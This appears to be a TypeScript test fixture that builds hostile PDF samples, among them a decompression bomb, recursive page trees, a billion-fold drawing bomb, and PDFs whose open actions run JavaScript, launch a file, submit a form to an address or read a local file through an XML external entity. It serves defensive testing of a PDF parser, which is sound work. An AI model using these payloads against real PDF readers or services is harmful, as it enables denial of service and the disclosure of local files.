import { assemblePdf, FONT, makePdf, pdfLine } from '../pdf.ts'
import { type Attack, attack, type Bait, harmless } from './attack.ts'

const TREE = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const PAGE =
  '/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>'
const stream = (text: string, more = '') =>
  `<< ${more}/Length ${text.length} >>\nstream\n${text}\nendstream`
const TEXT = stream(String(pdfLine('Pelican')))

type Parts = { catalog?: string; tree?: string; page?: string; content?: string; more?: string[] }

/** A document of one page that is fine as it is. */
const pdf = ({ catalog = '', tree = TREE, page = '', content = TEXT, more = [] }: Parts): Buffer =>
  assemblePdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      tree,
      `<< ${PAGE} ${page} >>`,
      content,
      FONT,
      ...more,
    ].map((object) => Buffer.from(object)),
  )

/** Each drawing draws the next one ten times. */
const drawing = (at: number) =>
  stream(
    '/X Do '.repeat(10),
    `/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X ${at + 1} 0 R >> >> `,
  )
const DRAWINGS = Array.from({ length: 12 }, (_, at) => drawing(at + 6))

/** Actions that call elsewhere, references to files and to itself, and forms that cost more than they should. */
export const pdfAttacks = ({ file, url }: Bait): Attack[] => [
  attack(
    'a stream that unpacks to far more',
    makePdf(Buffer.alloc(600 * 1024 ** 2, ' '), { isPacked: true }),
  ),
  attack('no document at all', Buffer.from('%PDF-1.4\n%%EOF\n')),
  harmless('no pages', pdf({ tree: '<< /Type /Catalog >>' })),
  harmless(
    'a script',
    pdf({ catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}"\\)) >>` }),
  ),
  harmless('a program', pdf({ catalog: `/OpenAction << /S /Launch /F (${file}) >>` })),
  harmless('an address', pdf({ catalog: `/OpenAction << /S /URI /URI (${url}) >>` })),
  harmless('another document', pdf({ page: `/AA << /O << /S /GoToR /F (${url}) /D [0] >> >>` })),
  harmless(
    'a form that is sent',
    pdf({ page: `/AA << /O << /S /SubmitForm /F << /FS /URL /F (${url}) >> >> >>` }),
  ),
  harmless(
    'a form with an entity of a file',
    pdf({
      catalog: '/AcroForm << /XFA 6 0 R >>',
      more: [stream(`<!DOCTYPE x [<!ENTITY x SYSTEM "file://${file}">]><xdp>&x;</xdp>`)],
    }),
  ),
  harmless('a stream in another file', pdf({ content: stream('', `/F (${file}) `) })),
  harmless(
    'a stream at an address',
    pdf({ content: stream('', `/F << /FS /URL /F (${url}) >> `) }),
  ),
  harmless('pages inside themselves', pdf({ tree: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' })),
  harmless('a thousand million pages', pdf({ tree: TREE.replace('Count 1', 'Count 1000000000') })),
  harmless('an object that is itself', pdf({ content: '4 0 R' })),
  harmless('lists inside each other', pdf({ page: `/X ${'['.repeat(200_000)}` })),
  harmless(
    'a drawing inside itself',
    pdf({
      content: stream('/X Do'),
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      more: [drawing(5)],
    }),
  ),
  harmless(
    'a billion drawings',
    pdf({
      content: stream('/X Do'),
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      more: [...DRAWINGS, stream('q Q', '/Type /XObject /Subtype /Form /BBox [0 0 1 1] ')],
    }),
  ),
]
